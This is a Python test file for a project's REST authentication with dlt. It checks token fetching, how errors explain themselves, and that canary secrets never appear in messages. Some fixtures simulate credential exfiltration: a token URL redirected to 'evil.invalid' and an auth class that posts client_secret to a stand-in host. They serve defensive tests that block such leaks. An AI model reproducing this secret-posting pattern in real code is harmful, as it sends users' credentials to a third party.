"""dlt's auth classes: what the API gets to see, when a token is fetched anew, and that no secret is shown."""

import base64
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from dlt.common.configuration.specs import configspec
from dlt.extract.exceptions import ResourceExtractionError
from dlt.sources.helpers.rest_client.auth import (
    APIKeyAuth,
    AuthConfigBase,
    BearerTokenAuth,
    HttpBasicAuth,
    OAuth2ClientCredentials,
    OAuthJWTAuth,
)
from dlt.sources.helpers.rest_client.paginators import JSONLinkPaginator

from analytics_assets.api.dialects.base import Dialect, Endpoint
from analytics_assets.api.settings import SettingsError
from analytics_assets.defs.display.errors import explain
from analytics_assets_tests.servers.fake_api import Answer
from analytics_assets_tests.servers.vendor import Asked, Vendor, serve_vendor
from analytics_assets_tests.support.vendors import Connect, Connected, things

SECRETS = {
    "API_KEY": "key-77f1-canary",
    "CLIENT_ID": "user-3b-canary",
    "CLIENT_SECRET": "pass-9d-canary",
}
THINGS = Endpoint("/things", "data")
TOKEN_PATH = "/oauth/token"

BASIC = base64.b64encode(f"{SECRETS['CLIENT_ID']}:{SECRETS['CLIENT_SECRET']}".encode()).decode()


@pytest.fixture(autouse=True)
def secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    for key, value in SECRETS.items():
        monkeypatch.setenv(f"SOURCES__VENDOR__{key}", value)


def explained(connected: Connected) -> str:
    """What a person reads of a resource that cannot be read."""
    with pytest.raises(ResourceExtractionError) as caught:
        connected.rows()
    assert "canary" not in "".join(str(cause) for cause in _chain(caught.value)), "some text holds a secret"
    return explain(caught.value, tuple(connected.listing.secrets()))


def _chain(error: BaseException | None) -> Iterator[BaseException]:
    while error:
        yield error
        error = error.__cause__ or (None if error.__suppress_context__ else error.__context__)


def accepting(**wanted: str) -> Any:
    """Answers with rows if the headers or parameters are these, and else sends what came back."""

    def reply(asked: Asked) -> Answer:
        found = {**asked.query, **asked.headers}
        if all(found.get(name.replace("_", "-")) == value for name, value in wanted.items()):
            return Answer(body={"data": things(1, 3)})
        return Answer(401, {"error": f"wrong: {found}"})

    return reply


STATIC: dict[str, tuple[AuthConfigBase, dict[str, str]]] = {
    "bearer": (BearerTokenAuth(), {"Authorization": f"Bearer {SECRETS['API_KEY']}"}),
    "key in a header": (APIKeyAuth(name="X-Api-Key"), {"X-Api-Key": SECRETS["API_KEY"]}),
    "key in the query": (APIKeyAuth(name="key", location="query"), {"key": SECRETS["API_KEY"]}),
    "basic": (HttpBasicAuth(), {"Authorization": f"Basic {BASIC}"}),
}


@pytest.mark.parametrize(("auth", "wanted"), STATIC.values(), ids=STATIC)
def test_the_api_gets_the_credentials_from_the_settings(
    connect: Connect, auth: AuthConfigBase, wanted: dict[str, str]
) -> None:
    with serve_vendor(accepting(**wanted)) as vendor:
        connected = connect(vendor.url, THINGS, auth=auth)
        assert connected.ids() == [1, 2, 3]
        assert "canary" not in repr(connected.listing.settings.wire_format.auth)


@pytest.mark.parametrize(("auth", "wanted"), STATIC.values(), ids=STATIC)
@pytest.mark.parametrize("status", [401, 400, 200])
def test_credentials_that_are_refused_are_an_error_without_them(
    connect: Connect, auth: AuthConfigBase, wanted: dict[str, str], status: int
) -> None:
    """The server sends back what it got."""

    def refuse(asked: Asked) -> Answer:
        return Answer(status, f"no: {asked.query} {asked.headers}".encode())

    with serve_vendor(refuse) as vendor:
        connected = connect(vendor.url, THINGS, auth=auth)
        message = explained(connected)
        assert len(vendor.requests) == 1
    assert "things: GET /things answered" in message
    assert BASIC not in message
    if status == 401:
        key = "client_id and sources.vendor.client_secret" if "Basic" in str(wanted) else "api_key"
        assert message.endswith(f"the credentials of {type(auth).__name__}: check sources.vendor.{key}.")


def test_a_key_in_the_query_is_in_no_error_of_the_connection(connect: Connect) -> None:
    with serve_vendor(accepting()) as vendor:
        connected = connect(vendor.url, THINGS, auth=APIKeyAuth(name="key", location="query"))
    message = explained(connected)
    assert "No answer from" in message


def test_a_key_in_the_query_goes_along_with_redirects_and_links_once(connect: Connect) -> None:
    def echo(asked: Asked) -> Answer:
        """Redirects to, and links to, URLs that repeat the parameters of the request, as servers do."""
        key = asked.query.get("key", "none")
        if asked.path == "/things":
            return Answer(308, headers={"Location": f"/moved?key={key}&page={asked.query.get('page', '1')}"})
        page = int(asked.query["page"])
        following = f"{vendor.url}/things?page={page + 1}&key={key}" if page < 3 else None
        return Answer(body={"data": things(page, page), "next": following})

    with serve_vendor(echo) as vendor:
        endpoint = Endpoint("/things", "data", JSONLinkPaginator("next"))
        connected = connect(vendor.url, endpoint, auth=APIKeyAuth(name="key", location="query"))
        assert connected.ids() == [1, 2, 3]
        assert {tuple(asked.repeated["key"]) for asked in vendor.requests} == {(SECRETS["API_KEY"],)}
        vendor.reply = lambda asked: Answer(400) if asked.query.get("page") == "2" else echo(asked)
        assert "page=2" in explained(connected)


class Issuer:
    """A token endpoint, and rows for who has its last token."""

    def __init__(self) -> None:
        self.issued = 0
        self.answers: list[Answer] = []
        self.rejected: set[str] = set()

    def __call__(self, asked: Asked) -> Answer:
        if asked.path == TOKEN_PATH:
            if self.answers:
                return self.answers.pop(0)
            self.issued += 1
            return Answer(body={"access_token": f"issued-{self.issued}-canary", "expires_in": 3600})
        token = (asked.authorization or "").removeprefix("Bearer ")
        if token == f"issued-{self.issued}-canary" and token not in self.rejected:
            return Answer(body={"data": things(1, 3)})
        return Answer(401, {"error": f"who is {token}"})


@contextmanager
def issuing() -> Iterator[tuple[Vendor, Issuer]]:
    issuer = Issuer()
    with serve_vendor(issuer) as vendor:
        yield vendor, issuer


@configspec
class JsonCredentials(OAuth2ClientCredentials):
    """A class of the user, whose request for a token is JSON with basic auth, and whose response differs."""

    account: str = None  # type: ignore[assignment]  # as dlt's classes spell a required field

    def build_access_token_request(self) -> dict[str, Any]:
        return {"json": {"account": self.account}, "auth": (self.client_id, self.client_secret)}

    def parse_access_token(self, response_json: Any) -> str:
        return str(response_json["access_token"])


def private_key() -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    encoding, form = serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8
    return key.private_bytes(encoding, form, serialization.NoEncryption()).decode()


KINDS = ["client credentials", "class of the user", "jwt"]


def fetching(kind: str, url: str, monkeypatch: pytest.MonkeyPatch) -> AuthConfigBase:
    if kind == "jwt":
        monkeypatch.setenv("SOURCES__VENDOR__PRIVATE_KEY", private_key())
        return OAuthJWTAuth(auth_endpoint=f"{url}{TOKEN_PATH}", scopes=["read", "list"])
    if kind == "class of the user":
        monkeypatch.setenv("SOURCES__VENDOR__ACCOUNT", "account-1")
        return JsonCredentials(access_token_url=f"{url}{TOKEN_PATH}")
    return OAuth2ClientCredentials(access_token_url=f"{url}{TOKEN_PATH}")


@pytest.mark.parametrize("kind", KINDS)
def test_a_token_is_fetched_once_and_anew_after_a_401(
    connect: Connect, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    with issuing() as (vendor, issuer):
        connected = connect(vendor.url, THINGS, auth=fetching(kind, vendor.url, monkeypatch))
        listing = connected.open()
        for _ in range(2):
            listing.start({})
            assert listing.next_batch().table.num_rows == 3
        [asked] = vendor.asked(TOKEN_PATH)
        issuer.rejected.add("issued-1-canary")
        listing.start({})
        assert listing.next_batch().table.num_rows == 3
        assert len(vendor.asked(TOKEN_PATH)) == 2
        assert (listing.stats.requests, listing.stats.retries) == (4, 1)
        assert {"issued-1-canary", "issued-2-canary"} <= set(listing.secrets())
    if kind == "client credentials":
        expected = {"grant_type": "client_credentials", "client_id": SECRETS["CLIENT_ID"]}
        assert asked.form == {**expected, "client_secret": SECRETS["CLIENT_SECRET"]}
    elif kind == "class of the user":
        assert (asked.body, asked.authorization) == ({"account": "account-1"}, f"Basic {BASIC}")
    else:
        import jwt  # noqa: PLC0415 - only this test has it

        claims = jwt.decode(asked.form["assertion"], options={"verify_signature": False})
        assert (claims["iss"], claims["scope"]) == (SECRETS["CLIENT_ID"], "read list")


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("answer", "said"),
    [
        (Answer(400, {"error": "invalid_client", "seen": list(SECRETS.values())}), "answered 400 Bad Request"),
        (Answer(302, headers={"Location": "http://127.0.0.2/canary"}), "answered 302 Found"),
        (Answer(200, b"<html>log in</html>", {"Content-Type": "text/html"}), "It looks like a page"),
        (Answer(200, {"token": "other-canary"}), "token"),
        (Answer(200, ["no-canary"]), "token"),
        (Answer(200, {"access_token": "two\nlines-canary"}), "line break"),
    ],
    ids=["refused", "redirect", "page", "no token", "list", "two lines"],
)
def test_no_token_is_an_error_that_says_why_and_shows_no_secret(
    connect: Connect, monkeypatch: pytest.MonkeyPatch, kind: str, answer: Answer, said: str
) -> None:
    with issuing() as (vendor, issuer):
        issuer.answers.append(answer)
        message = explained(connect(vendor.url, THINGS, auth=fetching(kind, vendor.url, monkeypatch)))
        assert vendor.asked("/things") == []
    assert message.startswith("No ")
    assert said in message


@pytest.mark.parametrize("kind", KINDS)
def test_a_token_that_is_refused_twice_is_an_error(
    connect: Connect, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    with issuing() as (vendor, issuer):
        issuer.rejected |= {"issued-1-canary", "issued-2-canary"}
        message = explained(connect(vendor.url, THINGS, auth=fetching(kind, vendor.url, monkeypatch)))
        assert len(vendor.asked("/things")) == 2
    assert "answered 401 Unauthorized. The API did not accept the credentials of" in message


@pytest.mark.parametrize("lifetime", ["3600", None, "soon", -1, 1e300])
@pytest.mark.parametrize("kind", KINDS)
def test_a_lifetime_that_makes_no_sense_is_no_error(
    connect: Connect, monkeypatch: pytest.MonkeyPatch, kind: str, lifetime: object
) -> None:
    with issuing() as (vendor, issuer):
        issuer.answers.append(Answer(body={"access_token": "issued-0-canary", "expires_in": lifetime}))
        assert connect(vendor.url, THINGS, auth=fetching(kind, vendor.url, monkeypatch)).ids() == [1, 2, 3]


def test_a_token_endpoint_that_fails_for_a_moment_is_asked_again(
    connect: Connect, monkeypatch: pytest.MonkeyPatch
) -> None:
    with issuing() as (vendor, issuer):
        issuer.answers += [Answer(503), Answer(429)]
        # One request at a time: that of the token needs the place of no other.
        monkeypatch.setenv("SOURCES__VENDOR__REQUESTS_IN_FLIGHT", "1")
        auth = fetching("client credentials", vendor.url, monkeypatch)
        assert connect(vendor.url, THINGS, auth=auth).ids() == [1, 2, 3]
        assert len(vendor.asked(TOKEN_PATH)) == 3


def test_a_private_key_that_is_none_is_an_error_without_it(connect: Connect, monkeypatch: pytest.MonkeyPatch) -> None:
    with issuing() as (vendor, _):
        auth = fetching("jwt", vendor.url, monkeypatch)
        monkeypatch.setenv("SOURCES__VENDOR__PRIVATE_KEY", "no-key-canary")
        message = explained(connect(vendor.url, THINGS, auth=auth))
        assert vendor.requests == []
    assert "OAuthJWTAuth failed with" in message
    assert "sources.vendor.private_key" in message


MISSING = {
    "api_key": BearerTokenAuth(),
    "client_secret": HttpBasicAuth(),
    "client_id": OAuth2ClientCredentials(access_token_url="https://login.invalid/token"),
    "token_url": OAuth2ClientCredentials(),
    "private_key": OAuthJWTAuth(auth_endpoint="https://login.invalid/token"),
    "account": JsonCredentials(access_token_url="https://login.invalid/token"),
}


@pytest.mark.parametrize(("key", "auth"), MISSING.items(), ids=MISSING)
def test_a_missing_credential_is_an_error_before_any_request(
    connect: Connect, monkeypatch: pytest.MonkeyPatch, key: str, auth: AuthConfigBase
) -> None:
    monkeypatch.delenv(f"SOURCES__VENDOR__{key.upper()}", raising=False)
    connected = connect("https://api.invalid", THINGS, auth=auth)
    with pytest.raises(SettingsError, match=f"^sources.vendor.{key} is missing") as caught:
        connected.settings()
    assert f"SOURCES__VENDOR__{key.upper()} in the environment" in str(caught.value)


def test_the_settings_win_over_what_the_dialect_declares(connect: Connect, monkeypatch: pytest.MonkeyPatch) -> None:
    with issuing() as (vendor, _):
        monkeypatch.setenv("SOURCES__VENDOR__TOKEN_URL", f"{vendor.url}{TOKEN_PATH}")
        monkeypatch.setenv("SOURCES__VENDOR__SCOPE", "more")
        auth = OAuth2ClientCredentials(
            access_token_url="https://login.invalid/token", access_token_request_data={"scope": "less", "a": "b"}
        )
        assert connect(vendor.url, THINGS, auth=auth).ids() == [1, 2, 3]
        [asked] = vendor.asked(TOKEN_PATH)
        assert (asked.form["scope"], asked.form["a"]) == ("more", "b")
    assert auth.client_secret is None


def test_a_token_url_that_is_not_encrypted_is_refused(connect: Connect) -> None:
    auth = OAuth2ClientCredentials(access_token_url="http://login.invalid/token")
    connected = connect("https://api.invalid", THINGS, auth=auth)
    with pytest.raises(SettingsError, match="would send the token unencrypted"):
        connected.settings()


def test_run_config_may_not_lead_the_credentials_to_another_token_endpoint(connect: Connect) -> None:
    auth = OAuth2ClientCredentials(access_token_url="https://login.invalid/token")
    connected = connect("https://api.invalid", THINGS, auth=auth)
    with pytest.raises(SettingsError, match="would have this run send credentials to another origin"):
        connected.settings("token_url", token_url="https://evil.invalid/token")
    assert connected.settings("token_url", token_url="https://login.invalid/other").token_url


@configspec
class Elsewhere(OAuth2ClientCredentials):
    """A class that would post its secrets somewhere else than the settings say."""

    def obtain_token(self) -> None:
        self.session.post("http://127.0.0.2:9/token", data={"client_secret": self.client_secret})


def test_an_auth_class_posts_to_the_token_endpoint_only(connect: Connect) -> None:
    with issuing() as (vendor, _):
        message = explained(connect(vendor.url, THINGS, auth=Elsewhere(access_token_url=f"{vendor.url}{TOKEN_PATH}")))
    assert "the credentials would go to http://127.0.0.2:9" in message


@pytest.mark.parametrize(
    ("dialect", "said"),
    [
        ({"auth": APIKeyAuth(location="cookie")}, 'APIKeyAuth(location="cookie"), which dlt does not implement'),
        ({"auth": BearerTokenAuth}, "call it, as in BearerTokenAuth(...)"),
        ({"auth": "Bearer x"}, "auth is a text, and has to be an AuthConfigBase of dlt or None"),
        ({"headers": {"Authorization": "x"}}, "credentials belong in the dialect's auth"),
        ({"headers": {"X-A": "a\nb"}}, "no printable text"),
        ({"headers": {"X A": "a"}}, "no name of a header"),
    ],
)
def test_a_mistake_in_a_dialect_is_found(dialect: dict[str, Any], said: str) -> None:
    [mistake] = Dialect("vendor", {}, page_size=1, **dialect).mistakes()
    assert said in mistake
